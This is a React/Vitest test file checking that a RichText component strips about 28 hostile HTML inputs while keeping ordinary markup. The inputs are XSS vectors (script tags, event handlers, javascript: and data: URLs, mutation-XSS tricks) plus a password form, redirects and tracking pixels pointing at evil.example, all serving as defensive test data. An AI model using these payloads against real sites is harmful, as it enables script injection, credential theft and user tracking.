import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { RichText } from './rich-text.tsx';

const shown = (html: string): HTMLElement => render(<RichText html={html} />).container;

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVa\tScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="evil.swf"></object><embed src="evil.swf">',
  '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
  '<p style="position:fixed;inset:0">x</p>',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<p onclick="alert(1)" onmouseover="alert(1)">x</p>',
  '<p class="page" id="root" data-autofocus>x</p>',
  '<video src="https://evil.example/v"></video><audio autoplay src="https://evil.example/a"></audio>',
  '<img src="https://evil.example/pixel.gif"><img src="//evil.example/pixel.gif">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<table background="https://evil.example/b.gif"><tr><td>x</td></tr></table>',
  '<input autofocus onfocus=alert(1)>',
];

describe('RichText', () => {
  it.each(hostile)('disarms %s', (html) => {
    const box = shown(html);
    expect(
      box.querySelector(
        'script,style,iframe,object,embed,form,input,button,link,meta,base,svg,math,video,audio',
      ),
    ).toBeNull();
    for (const element of box.firstElementChild!.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on|^style$|^srcdoc$|^class$|^id$|^data-|^background$/);
        expect(value).not.toMatch(/^\s*(?:javascript|vbscript|data):/i);
        expect(value).not.toContain('evil.example');
      }
    }
  });

  it('keeps what a text is made of', () => {
    const html =
      '<h3>Title</h3><p>A <strong>bold</strong> word</p><ul><li>one</li></ul><table><tbody><tr><td colspan="2">cell</td></tr></tbody></table>';
    expect(shown(html).firstElementChild!.innerHTML).toBe(html);
  });

  it('opens links apart and keeps pictures of this origin', () => {
    const box = shown('<a href="https://example.org/law">law</a><img src="/files/plan.png" alt="plan">');
    const link = box.querySelector('a')!;
    expect(link.getAttribute('href')).toBe('https://example.org/law');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toContain('noopener');
    expect(box.querySelector('img')?.getAttribute('src')).toBe('/files/plan.png');
  });
});
